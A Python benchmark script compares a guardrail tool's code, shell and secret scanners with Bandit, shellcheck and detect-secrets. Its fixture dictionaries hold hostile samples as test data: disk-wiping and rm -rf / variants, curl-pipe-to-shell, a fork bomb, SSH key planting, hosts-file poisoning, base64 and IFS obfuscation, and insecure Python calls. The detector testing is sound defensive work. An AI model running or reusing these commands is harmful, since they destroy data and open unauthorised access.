"""Side-by-side measurements of minic's guardrails and their peers (see Benchmarks/run-guard)."""
import argparse, base64, collections, json, os, random, shutil, string, subprocess, sys, sysconfig, tempfile, time

BANDIT_TO_MINIC = {
    "B101": "py-assert", "B102": "py-exec", "B103": "py-chmod-world-writable", "B104": "py-bind-all-interfaces",
    "B105": "py-hardcoded-password", "B106": "py-hardcoded-password", "B107": "py-hardcoded-password", "B108": "py-hardcoded-tmp",
    "B110": "py-try-except-pass", "B112": "py-try-except-continue", "B113": "py-request-no-timeout", "B201": "py-flask-debug",
    "B202": "py-tarfile-extractall", "B301": "py-pickle", "B302": "py-marshal", "B303": "py-weak-hash", "B304": "py-weak-cipher",
    "B305": "py-weak-cipher-mode", "B306": "py-mktemp", "B307": "py-eval", "B310": "py-urlopen", "B311": "py-random",
    "B313": "py-xml-parse", "B314": "py-xml-parse", "B315": "py-xml-parse", "B316": "py-xml-parse", "B317": "py-xml-parse",
    "B318": "py-xml-parse", "B319": "py-xml-parse", "B320": "py-xml-parse", "B324": "py-weak-hash", "B401": "py-import-telnetlib",
    "B402": "py-import-ftplib", "B403": "py-import-pickle", "B404": "py-import-subprocess", "B405": "py-import-xml", "B406": "py-import-xml",
    "B407": "py-import-xml", "B408": "py-import-xml", "B409": "py-import-xml", "B410": "py-import-xml", "B411": "py-import-xml",
    "B413": "py-import-pycrypto", "B415": "py-import-ipmi", "B501": "py-verify-false", "B506": "py-yaml-load", "B507": "py-ssh-no-host-key",
    "B602": "py-subprocess-shell", "B603": "py-subprocess", "B604": "py-shell-true", "B605": "py-shell-call", "B606": "py-process-start",
    "B607": "py-subprocess", "B608": "py-sql-string", "B614": "py-torch-load", "B701": "py-jinja-autoescape",
}
# The classes the issue names: minic must miss none of Bandit's findings in these.
REQUIRED = {"B102", "B307", "B602", "B605", "B301", "B302", "B506", "B614", "B202", "B303", "B324", "B304", "B305", "B501", "B104",
            "B105", "B106", "B107", "B108", "B306", "B608"}

PYTHON_CLASSES = {
    "eval_exec.py": "import importlib\ndef f(x):\n    eval(x)\n    exec(x)\n    compile(x, 'f', 'exec')\n    __import__(x)\n    importlib.import_module(x)\n",
    "shells.py": "import os, subprocess\ndef f(cmd):\n    subprocess.run(cmd, shell=True)\n    subprocess.Popen('ls ' + cmd, shell=True)\n    os.system(cmd)\n    os.popen(cmd)\n",
    "loads.py": "import pickle, marshal, yaml, torch\ndef f(b):\n    pickle.loads(b)\n    marshal.loads(b)\n    yaml.load(b)\n    torch.load(b)\n",
    "tar.py": "import tarfile\ndef f(p):\n    with tarfile.open(p) as t:\n        t.extractall('out')\n",
    "crypto.py": "import hashlib\nfrom Crypto.Cipher import DES\nfrom cryptography.hazmat.primitives.ciphers import modes\ndef f(b, k):\n    hashlib.md5(b)\n    hashlib.sha1(b)\n    DES.new(k)\n    modes.ECB()\n",
    "tls_net.py": "import requests, socket\ndef f(u):\n    requests.get(u, verify=False, timeout=5)\n    socket.socket().bind(('0.0.0.0', 8080))\n",
    "passwords.py": "password = 'hunter2'\ndef login(user, passwd='letmein'):\n    return connect(user=user, password='s3cr3t')\n",
    "tmp.py": "import tempfile\ndef f():\n    open('/tmp/minic.log', 'w')\n    return tempfile.mktemp()\n",
    "sql.py": "def f(c, i, n):\n    c.execute('SELECT * FROM users WHERE id = %s' % i)\n    c.execute(f'DELETE FROM users WHERE name = {n}')\n    c.execute('SELECT a FROM t WHERE b = ' + n)\n",
}

SHELL_CLASSES = {
    "rm_root.sh": "#!/bin/sh\nrm -rf /\n", "rm_spelling.sh": "#!/bin/sh\nrm -r -f /\n", "rm_home.sh": "#!/bin/bash\n/bin/rm -rf ~\n",
    "rm_var.sh": "#!/bin/bash\nrm -rf \"$STEAMROOT/\"*\n", "find_delete.sh": "#!/bin/sh\nfind / -name '*.log' -delete\n",
    "curl_sh.sh": "#!/bin/sh\ncurl -fsSL https://example.com/install.sh | sh\n", "eval_curl.sh": "#!/bin/bash\neval \"$(wget -qO- http://x)\"\n",
    "fork_bomb.sh": "#!/bin/bash\n:(){ :|:& };:\n", "dd_disk.sh": "#!/bin/sh\ndd if=/dev/zero of=/dev/sda bs=1M\n",
    "mkfs.sh": "#!/bin/sh\nmkfs.ext4 /dev/sdb1\n", "chmod_root.sh": "#!/bin/sh\nchmod -R 777 /\n",
    "ssh_keys.sh": "#!/bin/sh\necho ssh-rsa AAAA >> ~/.ssh/authorized_keys\n", "etc_hosts.sh": "#!/bin/sh\necho '1.2.3.4 bank' >> /etc/hosts\n",
    "force_push.sh": "#!/bin/sh\ngit push --force origin main\n", "base64_sh.sh": "#!/bin/sh\necho cm0gLXJmIC8K | base64 -d | sh\n",
    "ansi_c.sh": "#!/bin/bash\n$'\\x72\\x6d' -rf /tmp/x\n", "ifs.sh": "#!/bin/bash\nrm${IFS}-rf${IFS}/tmp/x\n",
}


def timed(command, **kwargs):
    start = time.perf_counter()
    result = subprocess.run(command, capture_output=True, text=True, **kwargs)
    return time.perf_counter() - start, result


def size_of(files):
    return sum(os.path.getsize(f) for f in files)


def python_files(root):
    found = []
    for directory, subdirectories, names in os.walk(root):
        # A Python's stdlib directory also holds its installed packages: the corpus is the stdlib itself.
        subdirectories[:] = [d for d in subdirectories if d not in (".git", "__pycache__", "site-packages", "dist-packages")]
        found += [os.path.join(directory, n) for n in names if n.endswith(".py")]
    return sorted(found)


def minic_scan(bin_dir, paths, only, jobs=None):
    command = [os.path.join(bin_dir, "minic"), "scan", "--only", only, "--json"] + (["--jobs", str(jobs)] if jobs else []) + paths
    seconds, result = timed(command)
    return seconds, json.loads(result.stdout or "[]")


def compare_python(bin_dir, corpus, work):
    print("== Python: minic's AST analyser vs Bandit ==")
    fixtures = os.path.join(work, "python-classes")
    os.makedirs(fixtures)
    for name, code in PYTHON_CLASSES.items():
        open(os.path.join(fixtures, name), "w").write(code)
    files = python_files(corpus)
    megabytes = size_of(files) / 1e6
    print(f"corpus: {corpus} ({len(files)} files, {megabytes:.1f} MB) plus {len(PYTHON_CLASSES)} files of the required classes")
    bandit_seconds, bandit = timed(["bandit", "-q", "-f", "json"] + files + python_files(fixtures))
    bandit_results = json.loads(bandit.stdout)["results"] if bandit.stdout else []
    one_seconds, minic_one = minic_scan(bin_dir, files + python_files(fixtures), "code", jobs=1)
    all_seconds, _ = minic_scan(bin_dir, files + python_files(fixtures), "code")
    minic_at = collections.defaultdict(set)
    for f in minic_one:
        minic_at[(os.path.realpath(f["file"]), f["rule_id"])].add(f["line"])
    per_test = collections.OrderedDict()
    misses = collections.defaultdict(list)
    for r in sorted(bandit_results, key=lambda r: r["test_id"]):
        test = r["test_id"]
        rule = BANDIT_TO_MINIC.get(test, "?")
        lines = minic_at.get((os.path.realpath(r["filename"]), rule), set())
        hit = any(abs(l - r["line_number"]) <= 1 for l in lines) or any(l in lines for l in r.get("line_range", []))
        counts = per_test.setdefault(test, [r["test_name"], rule, 0, 0])
        counts[2] += 1
        counts[3] += hit
        if not hit:
            misses[test].append(f'{r["filename"]}:{r["line_number"]}')
    minic_counts = collections.Counter(f["rule_id"] for f in minic_one)
    print(f'{"bandit test":<50}{"minic rule":<26}{"bandit":>8}{"minic too":>11}{"missed":>8}')
    for test, (name, rule, count, hit) in per_test.items():
        mark = " *" if test in REQUIRED else ""
        print(f"{(test + ' ' + name)[:49]:<50}{rule:<26}{count:>8}{hit:>11}{count - hit:>8}{mark}")
    print("(* a class the issue requires; minic's own count of each rule:", ", ".join(f"{k} {v}" for k, v in sorted(minic_counts.items())), ")")
    required_misses = [m for t in REQUIRED for m in misses.get(t, [])]
    print(f"required-class findings Bandit has and minic misses: {len(required_misses)}")
    for miss in required_misses[:15]:
        print("  ", miss)
    fixture_rules = {f["rule_id"] for f in minic_one if f["file"].startswith(fixtures)}
    print(f"required-class fixtures: minic finds {len(fixture_rules & set(BANDIT_TO_MINIC[t] for t in REQUIRED))} of "
          f"{len(set(BANDIT_TO_MINIC[t] for t in REQUIRED))} classes")
    print(f"throughput: bandit {megabytes / bandit_seconds:.2f} MB/s ({bandit_seconds:.1f} s, one process); "
          f"minic {megabytes / one_seconds:.2f} MB/s on one core ({one_seconds:.2f} s, ratio {bandit_seconds / one_seconds:.1f}x), "
          f"{megabytes / all_seconds:.2f} MB/s on {os.cpu_count()} cores (ratio {bandit_seconds / all_seconds:.1f}x)")
    print()


def shell_files(root, limit):
    found = []
    for directory, subdirectories, names in os.walk(root):
        subdirectories[:] = [d for d in subdirectories if d != ".git"]
        for name in names:
            path = os.path.join(directory, name)
            try:
                if os.path.islink(path) or not os.path.isfile(path) or os.path.getsize(path) > 1 << 20:
                    continue
                with open(path, "rb") as handle:
                    head = handle.read(64)
            except OSError:
                continue
            if name.endswith(".sh") or head.startswith((b"#!/bin/sh", b"#!/bin/bash", b"#!/usr/bin/env bash", b"#!/usr/bin/env sh", b"#! /bin/sh")):
                found.append(path)
            if len(found) >= limit:
                return sorted(found)
    return sorted(found)


def compare_shell(bin_dir, corpus, work):
    print("== Shell: minic's parser-based analyser vs shellcheck ==")
    fixtures = os.path.join(work, "shell-classes")
    os.makedirs(fixtures)
    for name, code in SHELL_CLASSES.items():
        open(os.path.join(fixtures, name), "w").write(code)
    files = shell_files(corpus, 2000)
    megabytes = size_of(files) / 1e6
    print(f"corpus: {len(files)} shell scripts under {corpus} ({megabytes:.2f} MB)")
    check_seconds, _ = timed(["shellcheck", "-f", "json1", "-S", "style"] + files)
    minic_seconds, _ = minic_scan(bin_dir, files, "code")
    print(f"throughput: shellcheck {megabytes / check_seconds:.2f} MB/s ({check_seconds:.2f} s); minic {megabytes / minic_seconds:.2f} MB/s "
          f"({minic_seconds:.2f} s); ratio {check_seconds / minic_seconds:.1f}x")
    _, fixture_results = minic_scan(bin_dir, [fixtures], "code")
    by_file = collections.defaultdict(set)
    for f in fixture_results:
        by_file[os.path.basename(f["file"])].add(f'{f["rule_id"]}/{f["decision"]}')
    print(f'{"dangerous script":<18}{"minic":<44}{"shellcheck"}')
    missed = 0
    for name in SHELL_CLASSES:
        _, check = timed(["shellcheck", "-f", "json1", os.path.join(fixtures, name)])
        codes = sorted({f"SC{c['code']}" for c in json.loads(check.stdout or '{"comments": []}')["comments"]})
        found = ", ".join(sorted(by_file.get(name, []))) or "MISSED"
        missed += not by_file.get(name)
        print(f"{name:<18}{found:<44}{', '.join(codes) or '-'}")
    print(f"dangerous scripts minic misses: {missed} of {len(SHELL_CLASSES)} (shellcheck is a linter: its codes are about quoting and style, not danger)")
    print()


def fake(alphabet, count, seed):
    generator = random.Random(seed)
    return "".join(generator.choice(alphabet) for _ in range(count))


def secret_fixtures(directory):
    alnum = string.ascii_letters + string.digits
    upper = string.ascii_uppercase + "234567"
    ghp = "ghp_" + fake(alnum, 36, 1)
    secrets = {
        "aws.py": f"AWS_ACCESS_KEY_ID = 'AKIA{fake(upper, 16, 2)}'\naws_secret_access_key = '{fake(alnum + '/+', 40, 3)}'\n",
        "github.py": f"token = '{ghp}'\n", "github_fine.py": f"GH = 'github_pat_{fake(alnum + '_', 82, 4)}'\n",
        "anthropic.py": f"ANTHROPIC_API_KEY = 'sk-ant-api03-{fake(alnum + '_-', 93, 5)}AA'\n",
        "openai.py": f"OPENAI_API_KEY = 'sk-proj-{fake(alnum, 40, 6)}T3BlbkFJ{fake(alnum, 40, 7)}'\n",
        "slack.py": f"SLACK = 'xoxb-1234567890123-1234567890123-{fake(alnum, 24, 8)}'\n",
        "stripe.py": f"stripe.api_key = 'sk_live_{fake(alnum, 24, 9)}'\n", "google.py": f"MAPS = 'AIza{fake(alnum + '-_', 35, 10)}'\n",
        "private_key.py": "KEY = '''-----BEGIN RSA PRIVATE KEY-----\n" + fake(alnum + "+/", 64, 11) + "\n" + fake(alnum + "+/", 64, 12) + "\n-----END RSA PRIVATE KEY-----'''\n",
        "jwt.py": "AUTH = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ." + fake(alnum + "_-", 43, 13) + "'\n",
        "generic.py": f"db_password = '{fake(alnum, 24, 14)}'\n",
        "json_escaped.json": json.dumps({"token": ghp}).replace("_", "\\u005f") + "\n",
        "base64.py": f"BLOB = '{base64.b64encode(('export GITHUB_TOKEN=' + ghp).encode()).decode()}'\n",
        "concatenated.py": f"TOKEN = ('{ghp[:20]}'\n         '{ghp[20:]}')\n",
    }
    for name, text in secrets.items():
        open(os.path.join(directory, name), "w").write(text)
    return list(secrets)


def compare_secrets(bin_dir, corpus, work):
    print("== Secrets: minic's scanner vs detect-secrets ==")
    fixtures = os.path.join(work, "secret-fixtures")
    os.makedirs(fixtures)
    names = secret_fixtures(fixtures)
    files = python_files(corpus)
    megabytes = size_of(files) / 1e6
    listing = os.path.join(work, "files.txt")
    open(listing, "w").write("\n".join(files) + "\n")
    bench_seconds, bench = timed([os.path.join(bin_dir, "minic-scan-bench"), "@" + listing])
    minic_rate = float(bench.stdout.split()[2])
    # detect-secrets is given the same files, relative to the corpus (it reports paths from its working directory).
    ds_seconds, ds = timed(["detect-secrets", "scan", "--all-files"] + [os.path.relpath(f, corpus) for f in files], cwd=corpus)
    ds_results = json.loads(ds.stdout)["results"] if ds.stdout else {}
    _, minic_found = minic_scan(bin_dir, files, "secrets")
    minic_lines = {(os.path.realpath(f["file"]), f["line"]) for f in minic_found}
    by_type = collections.Counter()
    both = collections.Counter()
    examples = collections.defaultdict(list)
    for filename, entries in ds_results.items():
        path = os.path.realpath(filename if os.path.isabs(filename) else os.path.join(corpus, filename))
        for entry in entries:
            by_type[entry["type"]] += 1
            if (path, entry["line_number"]) in minic_lines:
                both[entry["type"]] += 1
            elif len(examples[entry["type"]]) < 3:
                examples[entry["type"]].append(f'{filename}:{entry["line_number"]}')
    print(f"corpus: {len(files)} Python files, {megabytes:.1f} MB")
    print(f'{"detect-secrets type":<32}{"count":>7}{"minic too":>11}')
    for kind, count in by_type.most_common():
        print(f"{kind:<32}{count:>7}{both[kind]:>11}")
        for example in examples[kind]:
            print(f"    not reported by minic: {example}")
    print(f"minic findings on the corpus: {len(minic_found)} ({', '.join(f'{k} {v}' for k, v in collections.Counter(f['rule_id'] for f in minic_found).most_common())})")
    _, ds_fix = timed(["detect-secrets", "scan", "--all-files", "."], cwd=fixtures)
    ds_fix_files = {os.path.basename(f) for f in json.loads(ds_fix.stdout)["results"]}
    _, minic_fix = minic_scan(bin_dir, [fixtures], "secrets")
    minic_fix_files = collections.defaultdict(set)
    for f in minic_fix:
        minic_fix_files[os.path.basename(f["file"])].add(f["rule_id"])
    print(f'{"true-secret fixture":<22}{"minic":<44}{"detect-secrets"}')
    for name in names:
        print(f"{name:<22}{', '.join(sorted(minic_fix_files.get(name, []))) or 'MISSED':<44}{'found' if name in ds_fix_files else 'missed'}")
    print(f"throughput: detect-secrets {megabytes / ds_seconds:.2f} MB/s ({ds_seconds:.1f} s, its own process pool); "
          f"minic {minic_rate:.2f} MB/s on one core; ratio {minic_rate / (megabytes / ds_seconds):.1f}x (target: at least 20 MB/s)")
    print()


def sandbox(bin_dir, runs):
    print("== Sandbox start-up: minic's sandbox vs the same command without it ==")
    print(subprocess.run([os.path.join(bin_dir, "minic-sandbox-bench"), str(runs)], capture_output=True, text=True).stdout.rstrip())
    minic = os.path.join(bin_dir, "minic")
    cli = []
    plain = []
    for _ in range(runs):
        seconds, _ = timed([minic, "sandbox", "run", "--", "true"])
        cli.append(seconds * 1000)
        seconds, _ = timed(["true"])
        plain.append(seconds * 1000)
    cli.sort()
    plain.sort()
    print(f"CLI: minic sandbox run -- true {cli[len(cli) // 2]:.2f} ms vs true {plain[len(plain) // 2]:.2f} ms "
          f"(adds {cli[len(cli) // 2] - plain[len(plain) // 2]:.2f} ms, minic's own start-up included)")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--bin", required=True)
    parser.add_argument("--python-corpus", default=sysconfig.get_paths()["stdlib"])
    parser.add_argument("--shell-corpus", default="/usr")
    parser.add_argument("--runs", type=int, default=30)
    arguments = parser.parse_args()
    work = tempfile.mkdtemp(prefix="minic-guard-bench.")
    try:
        compare_python(arguments.bin, arguments.python_corpus, work)
        compare_shell(arguments.bin, arguments.shell_corpus, work)
        compare_secrets(arguments.bin, arguments.python_corpus, work)
        sandbox(arguments.bin, arguments.runs)
    finally:
        shutil.rmtree(work)


if __name__ == "__main__":
    main()
